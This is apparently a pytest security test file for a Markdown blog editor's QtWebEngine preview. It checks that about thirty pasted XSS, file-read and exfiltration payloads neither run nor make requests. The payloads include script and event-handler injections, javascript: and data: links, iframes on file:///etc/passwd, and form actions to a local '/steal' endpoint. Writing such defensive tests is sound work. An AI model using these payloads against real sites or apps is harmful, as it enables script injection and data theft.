"""Issue #6's payload catalogue against the real window and the real QtWebEngine preview.

Each payload is pasted into the editor of a real MainWindow (through the clipboard) or
opened as a post file, between two marker paragraphs. Then, in the live page:
- nothing ran: `window.pwned` stays undefined and the title is not "pwned"
  (every payload that could run sets both);
- no file outside the site was read: a real picture outside the site folder, referenced by
  file:// URL, is blocked by the request interceptor and never decodes (naturalWidth 0);
- no network request: a real HTTP server on 127.0.0.1 logs every request; its log stays
  empty (the server shuts itself down after SERVER_LIFETIME_S in any case);
- the rest of the post renders: the marker paragraph after the payload is in the DOM.
The control tests at the end show each of these checks does fail when the defences are off.
"""
# ruff: noqa: F811  (pytest fixtures imported from window_fixtures)

from __future__ import annotations

import html
import json
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from PySide6.QtCore import QMimeData, QObject, QPoint, Qt, QUrl, Slot
from PySide6.QtGui import QDesktopServices
from PySide6.QtTest import QTest
from PySide6.QtWebEngineCore import QWebEngineSettings
from PySide6.QtWidgets import QApplication
from test_preview_live import WAIT_MS, run_js
from window_fixtures import POST_NAME, app_settings, make_window, site_copy  # noqa: F401

from editor.render.page import render_page
from editor.ui import main_window as main_window_module
from editor.ui import preview_navigation as navigation_module
from editor.ui.core_api import Post, Site
from editor.ui.preview import PreviewView

pytestmark = pytest.mark.webengine

SERVER_LIFETIME_S = 120
BEFORE = "첫 문단 BEFORE-MARK 그대로."
AFTER = "AFTER-MARK 마지막 문단도 그대로."
FRONT = "---\ntitle: Hostile\ncategories:\n  - Test\n---\n\n"
SITE_PICTURE = "assets/img/newsdao_breakingnews.jpg"
PWN = "window.pwned=1;document.title='pwned'"

# (name, payload); {srv} is the local server, {secret} a real picture outside the site.
CATALOGUE = [
    ("script", f"<script>{PWN}</script>"),
    ("script-in-p", f"<p>a<script>{PWN}</script>b</p>"),
    ("img-onerror", f'<img src="x" onerror="{PWN}">'),
    ("svg-onload", f'<svg onload="{PWN}"><circle r="5"/></svg>'),
    ("body-onload", f'<body onload="{PWN}">'),
    ("a-javascript", f'<a href="javascript:{PWN}">click</a>'),
    ("md-javascript", "[click](javascript:window.pwned=1)"),
    ("a-about-blank", '<a href="about:blank">blank</a> <a href="about:srcdoc">srcdoc</a>'),
    ("a-data-html", '<a href="data:text/html,<script>parent.pwned=1</script>">click</a>'),
    ("iframe-srcdoc", f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>'),
    ("iframe-file", '<iframe src="{secret}"></iframe>'),
    ("iframe-etc-passwd", '<iframe src="file:///etc/passwd"></iframe>'),
    ("object", '<object data="{srv}/object.swf"></object>'),
    ("embed", '<embed src="{srv}/embed.swf">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url={srv}/refresh">'),
    ("base-href", '<base href="{srv}/">\n\n<img src="relative.png" alt="relative">'),
    ("link-stylesheet", '<link rel="stylesheet" href="{srv}/link.css">'),
    ("style-import", "<style>@import url({srv}/import.css); p {{ color: red }}</style>"),
    ("inline-url-background", '<p style="background: url({srv}/bg.png); color: #ee2323;">bg</p>'),
    ("img-file-secret", '<img src="{secret}">'),
    ("md-img-file-secret", "![secret]({secret})"),
    ("img-etc-passwd", '<img src="file:///etc/passwd">'),
    # relative paths pass the sanitiser: the interceptor keeps them inside the site
    ("img-relative-escape", '<img src="../outside/secret.jpg">'),
    ("md-img-relative-escape", "![secret](../outside/secret.jpg)"),
    ("md-img-root-escape", "![secret](/../outside/secret.jpg)"),
    ("tracking-pixel", '<img src="{srv}/pixel.gif" width="1" height="1">'),
    ("md-tracking-pixel", "![]({srv}/md-pixel.gif)"),
    (
        "form",
        '<form action="{srv}/steal" method="get"><input name="q" value="v">'
        '<button formaction="{srv}/steal2">go</button></form>',
    ),
    ("fence-info-markup", f'```"><script>{PWN}</script>\nprint(1)\n```'),
    ("fence-info-attribute", f'``` html" onmouseover="{PWN}\n<b>code</b>\n```'),
]

_STATE = """JSON.stringify({
  pwned: typeof window.pwned,
  title: document.title,
  after: (document.getElementById('pe-body') || document.body).innerText.indexOf('AFTER-MARK'),
  before: (document.getElementById('pe-body') || document.body).innerText.indexOf('BEFORE-MARK'),
  secretWidths: Array.from(document.images)
    .filter(function (i) { return i.src.indexOf('secret') >= 0; })
    .map(function (i) { return i.naturalWidth; })
})"""
# User-like actions that would trigger what survived: click every link, submit every form,
# hover everything (onmouseover).
_POKE = """
document.querySelectorAll('#pe-body a').forEach(function (a) { a.click(); });
document.querySelectorAll('#pe-body form').forEach(function (f) {
  try { f.requestSubmit ? f.requestSubmit() : f.submit(); } catch (e) {}
});
document.querySelectorAll('#pe-body *').forEach(function (e) {
  e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
});
1"""


class _Server:
    """A local HTTP server that logs every request and stops by itself."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_args) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self._thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self._thread.start()
        self._stopper = threading.Timer(SERVER_LIFETIME_S, self.stop)
        self._stopper.daemon = True
        self._stopper.start()

    def stop(self) -> None:
        self._stopper.cancel()
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def server():
    running = _Server()
    yield running
    running.stop()


@pytest.fixture
def secret(tmp_path: Path, site_copy: Path) -> Path:
    """A real picture outside the site folder: it would decode if it were ever read."""
    outside = tmp_path / "outside" / "secret.jpg"
    outside.parent.mkdir()
    shutil.copyfile(site_copy / SITE_PICTURE, outside)
    return outside


@pytest.fixture
def hostile_window(qtbot, app_settings, site_copy, monkeypatch):
    monkeypatch.setattr(main_window_module, "ask_save_changes", lambda *_: "discard")
    opened: list[str] = []
    monkeypatch.setattr(
        navigation_module, "open_external", lambda url: opened.append(url.toString()) or True
    )
    window = make_window(qtbot, app_settings, site_copy)
    window.show()
    window.opened_links = opened
    return window


def open_post(qtbot, window, path: Path, body: str) -> None:
    path.write_text(FRONT + body, encoding="utf-8")
    window.preview._page_ready = False
    assert window.open_path(path)
    qtbot.waitUntil(lambda: window.preview._page_ready, timeout=WAIT_MS)


def page_state(qtbot, window) -> dict:
    return json.loads(run_js(qtbot, window.preview, _STATE))


def paste(window, text: str) -> None:
    """Paste as from a web page: plain text and HTML on the clipboard, Ctrl+V's own path."""
    mime = QMimeData()
    mime.setText(text)
    mime.setHtml(text)
    QApplication.clipboard().setMimeData(mime)
    window.editor.setFocus()
    window.editor.paste()


def assert_nothing_happened(qtbot, window, server: _Server, secret: Path) -> None:
    view = window.preview
    url = view.url()
    run_js(qtbot, view, _POKE)
    qtbot.wait(700)  # refresh timers, image errors and submits have their turn
    state = page_state(qtbot, window)
    assert state["pwned"] == "undefined" and state["title"] != "pwned", state
    assert state["before"] >= 0 and state["after"] > state["before"], state
    assert all(width == 0 for width in state["secretWidths"]), state
    assert server.hits == []
    assert view.url() == url  # no navigation (refresh, form, link)
    assert all(link.startswith(("http:", "https:", "mailto:")) for link in window.opened_links)
    assert not any(secret.name in link for link in window.opened_links)


def payload_text(payload: str, server: _Server, secret: Path) -> str:
    return payload.format(srv=server.url, secret=secret.as_uri())


@pytest.mark.parametrize(("name", "payload"), CATALOGUE, ids=[c[0] for c in CATALOGUE])
def test_pasted_payload_does_nothing_and_the_post_still_renders(
    qtbot, hostile_window, site_copy, server, secret, name, payload
) -> None:
    window = hostile_window
    open_post(qtbot, window, site_copy / "_posts" / "2024-01-01-hostile.md", f"{BEFORE}\n")
    cursor = window.editor.textCursor()
    cursor.movePosition(cursor.MoveOperation.End)
    window.editor.setTextCursor(cursor)
    paste(window, f"\n{payload_text(payload, server, secret)}\n\n{AFTER}\n")
    body = "document.getElementById('pe-body').innerText.indexOf('AFTER-MARK')"
    qtbot.waitUntil(lambda: run_js(qtbot, window.preview, body) >= 0, timeout=WAIT_MS)
    assert "AFTER-MARK" in window.editor.toPlainText()  # the paste really went in as text
    assert_nothing_happened(qtbot, window, server, secret)


@pytest.mark.parametrize(("name", "payload"), CATALOGUE, ids=[c[0] for c in CATALOGUE])
def test_payload_opened_as_a_post_does_nothing_and_the_post_still_renders(
    qtbot, hostile_window, site_copy, server, secret, name, payload
) -> None:
    window = hostile_window
    body = f"{BEFORE}\n\n{payload_text(payload, server, secret)}\n\n{AFTER}\n"
    open_post(qtbot, window, site_copy / "_posts" / "2024-01-01-hostile.md", body)
    assert_nothing_happened(qtbot, window, server, secret)


def test_a_file_outside_the_site_is_blocked_by_the_interceptor(
    qtbot, hostile_window, site_copy, server, secret
) -> None:
    """Past the sanitiser and the page's picture check (which turn an outside picture into a
    placeholder), the interceptor is the last guard: a picture of a file outside the site put
    straight into the window's page is refused there, while the site's own picture loads."""
    window = hostile_window
    body = f"{BEFORE}\n\n![inside](/{SITE_PICTURE})\n\n![secret]({secret.as_uri()})\n\n{AFTER}\n"
    open_post(qtbot, window, site_copy / "_posts" / "2024-01-01-outside.md", body)
    view = window.preview
    assert run_js(qtbot, view, "document.querySelectorAll('.pe-img-placeholder').length") == 1
    inside = "Array.from(document.images).filter(i => i.alt == 'inside')[0].naturalWidth"
    qtbot.waitUntil(lambda: run_js(qtbot, view, inside) > 0, timeout=WAIT_MS)
    smuggle = (
        "var i = document.createElement('img'); i.id = 'smuggled';"
        f"i.src = {json.dumps(secret.as_uri())}; document.getElementById('pe-body').append(i); 1"
    )
    run_js(qtbot, view, smuggle)
    qtbot.waitUntil(lambda: secret.as_uri() in view.interceptor.blocked, timeout=WAIT_MS)
    done = "document.getElementById('smuggled').complete"
    qtbot.waitUntil(lambda: run_js(qtbot, view, done) is True, timeout=WAIT_MS)
    assert run_js(qtbot, view, "document.getElementById('smuggled').naturalWidth") == 0
    assert_nothing_happened(qtbot, window, server, secret)


# ----- the web settings -----
REQUIRED_OFF = [
    "LocalContentCanAccessRemoteUrls",
    "JavascriptCanOpenWindows",
    "JavascriptCanAccessClipboard",
    "JavascriptCanPaste",
    "PluginsEnabled",
    "PdfViewerEnabled",
    "AllowRunningInsecureContent",
    "NavigateOnDropEnabled",
    "HyperlinkAuditingEnabled",
]


def test_web_settings_keep_local_content_local(qtbot) -> None:
    view = PreviewView()
    qtbot.addWidget(view)
    settings = view.page().settings()
    attribute = QWebEngineSettings.WebAttribute
    left_on = [name for name in REQUIRED_OFF if settings.testAttribute(getattr(attribute, name))]
    assert left_on == []
    # file: pictures are allowed only because the interceptor limits them to the site
    assert view.page() is view.preview_page
    assert view.interceptor is not None


def test_page_script_cannot_read_the_clipboard(qtbot, hostile_window) -> None:
    view = hostile_window.preview
    qtbot.waitUntil(lambda: view._page_ready, timeout=WAIT_MS)
    QApplication.clipboard().setText("clipboard secret")
    script = (
        "window.__clip = 'pending';"
        "(navigator.clipboard ? navigator.clipboard.readText() : Promise.reject('none'))"
        ".then(function (t) { window.__clip = 'read:' + t; },"
        " function () { window.__clip = 'refused'; }); 1"
    )
    run_js(qtbot, view, script)
    qtbot.waitUntil(lambda: run_js(qtbot, view, "window.__clip") != "pending", timeout=WAIT_MS)
    assert run_js(qtbot, view, "window.__clip") == "refused"
    assert run_js(qtbot, view, "String(document.execCommand('paste'))") == "false"


# ----- links -----
LINKS = [
    ("https://example.com/a", True),
    ("http://example.com/b", True),
    ("mailto:writer@example.com", True),
    ("javascript:window.pwned=1", False),
    ("file:///etc/passwd", False),
    ("data:text/html,<b>x</b>", False),
    ("ftp://example.com/c", False),
    ("tel:+821012345678", False),
    ("vscode://file/etc/passwd", False),
    ("steam://run/1", False),
]
# Not here: QtWebEngine navigates to about:blank without asking acceptNavigationRequest. The
# sanitiser drops about: links (the catalogue's "a-about-blank" checks the page stays), and the
# view rebuilds its page after any foreign navigation (tests/ui/test_preview_navigation.py).
OTHER_SCHEMES = ("http", "https", "mailto", "ftp", "tel", "vscode", "steam", "file", "data")


class _DesktopServices:
    """Stands in for QDesktopServices in editor.ui.preview: the one place a URL leaves."""

    def __init__(self) -> None:
        self.opened: list[str] = []

    def openUrl(self, url: QUrl) -> bool:  # noqa: N802 (QDesktopServices' name)
        self.opened.append(url.toString())
        return True


class _BypassRecorder(QObject):
    """Catches any URL opened through the real QDesktopServices (QtWebEngine's own
    external-protocol handler would go there, bypassing the preview's policy)."""

    def __init__(self) -> None:
        super().__init__()
        self.opened: list[str] = []

    @Slot(QUrl)
    def handle(self, url: QUrl) -> None:
        self.opened.append(url.toString())


@pytest.fixture
def bypass():
    recorder = _BypassRecorder()
    for scheme in OTHER_SCHEMES:
        QDesktopServices.setUrlHandler(scheme, recorder, "handle")
    yield recorder
    for scheme in OTHER_SCHEMES:
        QDesktopServices.unsetUrlHandler(scheme)


def mouse_click(qtbot, view, element_id: str) -> None:
    """A real mouse click (a user gesture, as Chromium requires for external schemes)."""
    box = f"document.getElementById('{element_id}').getBoundingClientRect()"
    where = run_js(qtbot, view, f"var r = {box}; (r.left + 3) + ',' + (r.top + r.height / 2)")
    x, y = (float(value) for value in where.split(","))
    target = view.focusProxy()
    point = QPoint(int(x * view.zoomFactor()), int(y * view.zoomFactor()))
    button, none = Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier
    QTest.mouseMove(target, point)
    QTest.mousePress(target, button, none, point)
    QTest.mouseRelease(target, button, none, point, 50)


def test_links_open_externally_only_for_http_https_mailto(
    qtbot, site_copy, monkeypatch, bypass
) -> None:
    """Links put into the real page past the sanitiser (only the page's CSP still in force),
    clicked with the mouse: only the three schemes reach QDesktopServices.openUrl, nothing
    opens any other way, no javascript: link runs, the page never navigates."""
    services = _DesktopServices()
    monkeypatch.setattr(navigation_module, "QDesktopServices", services)
    view = PreviewView()
    qtbot.addWidget(view)
    view.resize(800, 900)
    view.show()
    links = "".join(
        f'<p><a id="l{i}" href="{html.escape(href)}">link</a></p>'
        for i, (href, _) in enumerate(LINKS)
    )
    base = QUrl.fromLocalFile(str(site_copy) + "/")
    page = render_page(Post.from_text(FRONT + "x\n"), Site(site_copy), base_url=base.toString())
    view._load_html(page.replace("</article>", links + "</article>"), base)
    qtbot.waitUntil(lambda: view._page_ready, timeout=WAIT_MS)
    url = view.url()
    run_js(qtbot, view, "window.__samePage = 7; 1")
    for index, (href, opens) in enumerate(LINKS):
        before = len(services.opened)
        mouse_click(qtbot, view, f"l{index}")
        if opens:
            qtbot.waitUntil(lambda b=before: len(services.opened) > b, timeout=WAIT_MS)
        else:
            qtbot.wait(400)
        assert len(services.opened) == before + opens, (href, services.opened)
    assert services.opened == [QUrl(href).toString() for href, opens in LINKS if opens]
    assert bypass.opened == []
    assert run_js(qtbot, view, "window.__samePage") == 7 and view.url() == url
    assert run_js(qtbot, view, "typeof window.pwned") == "undefined"


# ----- controls: each check above can fail -----
def test_control_the_checks_see_a_payload_run_and_a_request_made(qtbot, server, secret) -> None:
    """A plain page with no CSP, no sanitiser and no interceptor: the same checks fire."""
    from PySide6.QtWebEngineWidgets import QWebEngineView

    view = QWebEngineView()
    qtbot.addWidget(view)
    remote = QWebEngineSettings.WebAttribute.LocalContentCanAccessRemoteUrls
    view.page().settings().setAttribute(remote, True)  # what harden_settings turns off
    page = (
        f"<!doctype html><html><body><p>{BEFORE}</p>"
        f'<img src="x" onerror="{PWN}"><img src="{server.url}/pixel.gif">'
        f'<img src="{secret.as_uri()}"><p>{AFTER}</p></body></html>'
    )
    done: list[bool] = []
    view.loadFinished.connect(done.append)
    view.setHtml(page, QUrl.fromLocalFile(str(secret.parent) + "/"))
    qtbot.waitUntil(lambda: bool(done), timeout=WAIT_MS)
    qtbot.waitUntil(lambda: run_js(qtbot, view, "typeof window.pwned") == "number", timeout=WAIT_MS)
    qtbot.waitUntil(lambda: server.hits == ["/pixel.gif"], timeout=WAIT_MS)
    width = "Array.from(document.images).filter(i => i.src.indexOf('secret') >= 0)[0].naturalWidth"
    qtbot.waitUntil(lambda: run_js(qtbot, view, width) > 0, timeout=WAIT_MS)
    assert run_js(qtbot, view, "document.title") == "pwned"


def test_control_without_the_csp_a_clicked_javascript_link_runs(qtbot, site_copy) -> None:
    """Without the CSP and without preview.js's click guard (this bare page has neither),
    QtWebEngine runs a clicked javascript: link without asking acceptNavigationRequest: the
    control that shows the checks can fail."""
    view = PreviewView()
    qtbot.addWidget(view)
    view.resize(800, 600)
    view.show()
    page = '<!doctype html><html><body><p><a id="js" href="javascript:window.pwned=1">x</a></p>'
    view._load_html(page + "</body></html>", QUrl.fromLocalFile(str(site_copy) + "/"))
    qtbot.waitUntil(lambda: view._page_ready, timeout=WAIT_MS)
    mouse_click(qtbot, view, "js")
    qtbot.waitUntil(lambda: run_js(qtbot, view, "typeof window.pwned") == "number", timeout=WAIT_MS)
